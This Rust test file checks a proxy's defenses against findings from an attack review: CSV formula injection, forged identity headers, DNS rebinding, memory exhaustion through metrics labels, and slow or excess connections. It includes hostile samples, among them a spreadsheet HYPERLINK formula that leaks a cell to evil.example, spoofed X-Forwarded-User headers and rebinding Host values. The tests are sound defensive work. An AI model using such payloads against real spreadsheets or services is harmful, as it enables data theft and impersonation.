//! Attack-review findings, each reproduced against a real proxy on loopback: formula injection
//! in exported CSVs, metrics labels invented by clients, DNS rebinding in dev mode, repeated
//! identity headers, and who may cancel or resume a job.

mod common;

use std::time::Duration;

use common::*;
use serde_json::json;

const FORMULA: &str = "=HYPERLINK(\"http://evil.example/?d=\"&B2,\"点此\")";

#[test]
fn exported_csvs_escape_formulas_and_failed_rows_reimport_unchanged() {
    let stack = Stack::start(0.0);
    let c = stack.client();
    // A name that is a formula, and a row that fails (an IM account the provider refuses).
    let rows = json!([
        {"row": 2, "cells": [FORMULA, "+86 138 0013 8000", "ghost-1"]},
        {"row": 3, "cells": ["@SUM(A1)", "13900139000", "member-ok"]}
    ]);
    let r = c.post(
        "/api/jobs",
        &json!({"headers": ["姓名", "手机号", "IM账号"], "rows": rows, "destinations": ["tencent-im:@TGS#2J4SZEAEL"]}),
    );
    assert_eq!(r.status, 201, "{}", r.body);
    let id = r.json()["id"].as_str().unwrap().to_string();
    c.wait_job(&id, Duration::from_secs(60));
    let results = c.get(&format!("/api/jobs/{id}/results.csv")).body;
    assert!(results.contains("\"'=HYPERLINK("), "{results}");
    assert!(results.contains("'@SUM(A1)"), "{results}");
    assert!(
        results.contains(",+86 138 0013 8000,"),
        "phones stay usable: {results}"
    );
    for line in results.lines() {
        for cell in line.split(',') {
            assert!(!cell.starts_with('=') && !cell.starts_with('@'), "{line}");
        }
    }
    let failed = c.get(&format!("/api/jobs/{id}/failed.csv")).body;
    assert!(failed.contains("'=HYPERLINK("), "{failed}");
    // Re-imported, the escaper's prefix is gone: the cell is what the organizer typed.
    let roster =
        rollcall_core::roster::parse_roster(failed.as_bytes(), &Default::default()).unwrap();
    assert_eq!(roster.rows.len(), 1);
    assert_eq!(roster.rows.first().and_then(|r| r.cell(0)), Some(FORMULA));
}

/// The proxy's resident memory (Linux), KiB.
fn rss_kib(pid: u32) -> u64 {
    std::fs::read_to_string(format!("/proc/{pid}/status"))
        .unwrap()
        .lines()
        .find_map(|l| l.strip_prefix("VmRSS:"))
        .and_then(|v| v.split_whitespace().next()?.parse().ok())
        .unwrap()
}

#[test]
fn metrics_labels_are_only_known_methods() {
    let stack = Stack::start(0.0);
    let http = reqwest::blocking::Client::new();
    let before = rss_kib(stack.proxy.child.id());
    // 1,000 requests with 30 KB invented methods: 30 MB of would-be labels.
    for i in 0..1000 {
        let method =
            reqwest::Method::from_bytes(format!("X{}{i}", "A".repeat(30_000)).as_bytes()).unwrap();
        let _ = http
            .request(method, format!("{}/healthz", stack.proxy.url))
            .send()
            .unwrap();
    }
    let metrics = Client::new(&stack.proxy.url, Some(("root", ADMIN)))
        .get("/metrics")
        .body;
    assert!(!metrics.contains("AAAA"), "client-made labels");
    assert!(metrics.contains("method=\"other\""), "{metrics}");
    assert!(metrics.len() < 20_000, "bounded: {} bytes", metrics.len());
    // Memory the requests used is returned as their buffers are freed: wait for the resident
    // size to settle under the bound rather than reading it once mid-release.
    let pid = stack.proxy.child.id();
    let grown = || rss_kib(pid).saturating_sub(before);
    let settled = eventually(Duration::from_secs(20), || {
        Some(grown()).filter(|&g| g < 16 * 1024)
    });
    eprintln!("RSS grew {} KiB", grown());
    assert!(settled.is_some(), "memory bounded: grew {} KiB", grown());
}

#[test]
fn dev_mode_answers_only_loopback_host_names() {
    let dir = tempfile::tempdir().unwrap();
    let p = serve_sandbox(dir.path(), "proxy.log", &[]);
    let port = p
        .url
        .rsplit(':')
        .next()
        .unwrap()
        .trim_end_matches('/')
        .to_string();
    let http = reqwest::blocking::Client::new();
    let me = |host: &str| {
        http.get(format!("{}/api/me", p.url))
            .header("Host", host)
            .send()
            .unwrap()
            .status()
            .as_u16()
    };
    // DNS rebinding: attacker.example resolved to 127.0.0.1 is not us.
    assert_eq!(me(&format!("attacker.example:{port}")), 403);
    assert_eq!(me("attacker.example"), 403);
    assert_eq!(me("127.0.0.1:1"), 403, "another port");
    assert_eq!(me(&format!("127.0.0.1:{port}")), 200);
    assert_eq!(me(&format!("localhost:{port}")), 200);
    let job = json!({"headers": ["IM账号"], "rows": [{"row": 2, "cells": ["x1"]}], "destinations": ["tencent-im:@TGS#2J4SZEAEL"]});
    let r = http
        .post(format!("{}/api/jobs", p.url))
        .header("Host", format!("attacker.example:{port}"))
        .header("x-rollcall-csrf", "1")
        .json(&job)
        .send()
        .unwrap();
    assert_eq!(r.status().as_u16(), 403, "no job from a rebound page");
}

#[test]
fn a_repeated_identity_header_is_refused() {
    let stack = Stack::start(0.0);
    let http = reqwest::blocking::Client::new();
    let r = http
        .get(format!("{}/api/me", stack.proxy.url))
        .header("X-Forwarded-User", "mallory")
        .header("X-Forwarded-User", "alice")
        .header("X-Forwarded-Groups", ORGANIZER)
        .send()
        .unwrap();
    assert_eq!(r.status().as_u16(), 401);
    let r = http
        .get(format!("{}/api/me", stack.proxy.url))
        .header("X-Forwarded-User", "alice")
        .header("X-Forwarded-Groups", ORGANIZER)
        .header("X-Forwarded-Groups", "admins")
        .send()
        .unwrap();
    assert_eq!(r.status().as_u16(), 401);
    assert_eq!(stack.client().get("/api/me").status, 200);
}

#[test]
fn only_the_creator_or_an_admin_cancels_or_resumes() {
    let dir = tempfile::tempdir().unwrap();
    let sandbox = spawn(
        &["sandbox", "--bind", "127.0.0.1:0"],
        &dir.path().join("sandbox.log"),
        "sandbox listening",
    );
    let config = write_config(dir.path(), &sandbox.url, "");
    let proxy = spawn(
        &["serve", "--config", config.to_str().unwrap()],
        &dir.path().join("proxy.log"),
        "Rollcall is running",
    );
    let alice = Client::new(&proxy.url, Some(("alice", ORGANIZER)));
    let bob = Client::new(&proxy.url, Some(("bob", ORGANIZER)));
    let admin = Client::new(&proxy.url, Some(("root", ADMIN)));
    let (headers, rows) = roster_csv(3000);
    let r = alice.post(
        "/api/jobs",
        &json!({"headers": headers, "rows": rows, "destinations": ["tencent-meeting:17305428542504531991"]}),
    );
    assert_eq!(r.status, 201, "{}", r.body);
    let id = r.json()["id"].as_str().unwrap().to_string();
    let r = bob.post(&format!("/api/jobs/{id}/cancel"), &json!({}));
    assert_eq!(r.status, 403, "{}", r.body);
    assert_eq!(r.json()["code"], "not_your_job");
    let r = admin.post(&format!("/api/jobs/{id}/cancel"), &json!({}));
    assert!(r.status == 200 || r.status == 409, "{}", r.body);
    let job = alice.wait_job(&id, Duration::from_secs(120));
    if job["state"] == "cancelled" {
        assert_eq!(
            bob.post(&format!("/api/jobs/{id}/resume"), &json!({}))
                .status,
            403
        );
        assert_eq!(
            alice
                .post(&format!("/api/jobs/{id}/resume"), &json!({}))
                .status,
            200
        );
    }
}

#[test]
fn reads_of_personal_data_are_audited() {
    let stack = Stack::start(0.0);
    // Not the creator: reads through a group the job is shared with (privacy.rs has the rest).
    let viewer = Client::new(&stack.proxy.url, Some(("vera", "organizers,auditors")));
    let c = stack.client();
    let (headers, rows) = roster_csv(2);
    let r = c.post(
        "/api/jobs",
        &json!({"headers": headers, "rows": rows, "destinations": ["tencent-im:@TGS#2J4SZEAEL"], "share_with": ["auditors"]}),
    );
    let id = r.json()["id"].as_str().unwrap().to_string();
    c.wait_job(&id, Duration::from_secs(60));
    for path in ["results", "results.csv", "failed.csv"] {
        assert_eq!(viewer.get(&format!("/api/jobs/{id}/{path}")).status, 200);
    }
    assert_eq!(
        viewer
            .get("/api/tencent-meeting/webinars/17305428542504531991/enrollments")
            .status,
        200
    );
    let db = audit_records(&stack);
    for action in [
        "job.results",
        "job.results_csv",
        "job.failed_csv",
        "tencent_meeting.list_enrollments",
    ] {
        assert!(
            db.iter().any(|(user, a)| user == "vera" && a == action),
            "{action} by vera is audited: {db:?}\n{}",
            stack
                .proxy
                .log_text()
                .lines()
                .filter(|l| l.contains("audit"))
                .take(3)
                .collect::<Vec<_>>()
                .join("\n")
        );
    }
}

/// The audit records as the proxy logs them (`target: audit`): (user, action).
fn audit_records(stack: &Stack) -> Vec<(String, String)> {
    stack
        .proxy
        .log_text()
        .lines()
        .filter(|l| l.contains("audit"))
        .filter_map(|l| {
            let field = |k: &str| {
                let i = l.find(&format!("{k}="))? + k.len() + 1;
                Some(
                    l[i..]
                        .split_whitespace()
                        .next()?
                        .trim_matches('"')
                        .to_string(),
                )
            };
            Some((field("user")?, field("action")?))
        })
        .collect()
}

/// A proxy with `[server]` settings added to the test config.
fn proxy_with(server: &str) -> (tempfile::TempDir, Proc) {
    let dir = tempfile::tempdir().unwrap();
    let config = write_config(dir.path(), "http://127.0.0.1:9", "");
    let text = std::fs::read_to_string(&config).unwrap().replacen(
        "[server]\n",
        &format!("[server]\n{server}\n"),
        1,
    );
    std::fs::write(&config, text).unwrap();
    let p = spawn(
        &["serve", "--config", config.to_str().unwrap()],
        &dir.path().join("proxy.log"),
        "Rollcall is running",
    );
    (dir, p)
}

fn host_of(url: &str) -> String {
    url.trim_start_matches("http://")
        .split('/')
        .next()
        .unwrap()
        .to_string()
}

#[test]
fn a_half_sent_request_is_disconnected() {
    use std::io::{Read, Write};
    let (_d, p) = proxy_with("header_read_timeout_secs = 1");
    let mut s = std::net::TcpStream::connect(host_of(&p.url)).unwrap();
    s.write_all(b"GET /healthz HTTP/1.1\r\nHost: x\r\nX-Slow: ")
        .unwrap();
    // Our own limit is far beyond the server's: the server must be the one to end it.
    s.set_read_timeout(Some(Duration::from_secs(30))).unwrap();
    let mut buf = Vec::new();
    let r = s.read_to_end(&mut buf);
    assert!(
        r.is_ok() || matches!(r, Err(ref e) if e.kind() == std::io::ErrorKind::ConnectionReset),
        "the server closed the connection: {r:?}"
    );
    let text = String::from_utf8_lossy(&buf);
    assert!(
        text.is_empty() || text.starts_with("HTTP/1.1 408"),
        "no response but a timeout: {text}"
    );
}

#[test]
fn connections_beyond_the_limit_wait() {
    let (_d, p) = proxy_with("max_connections = 2\nheader_read_timeout_secs = 60");
    let host = host_of(&p.url);
    let idle: Vec<std::net::TcpStream> = (0..2)
        .map(|_| std::net::TcpStream::connect(&host).unwrap())
        .collect();
    let quick = reqwest::blocking::Client::builder()
        .timeout(Duration::from_secs(2))
        .build()
        .unwrap();
    assert!(
        quick.get(format!("{}/healthz", p.url)).send().is_err(),
        "a third connection is not served while two are open"
    );
    drop(idle);
    let patient = reqwest::blocking::Client::builder()
        .timeout(Duration::from_secs(30))
        .build()
        .unwrap();
    let r = patient.get(format!("{}/healthz", p.url)).send().unwrap();
    assert_eq!(r.status().as_u16(), 200);
}
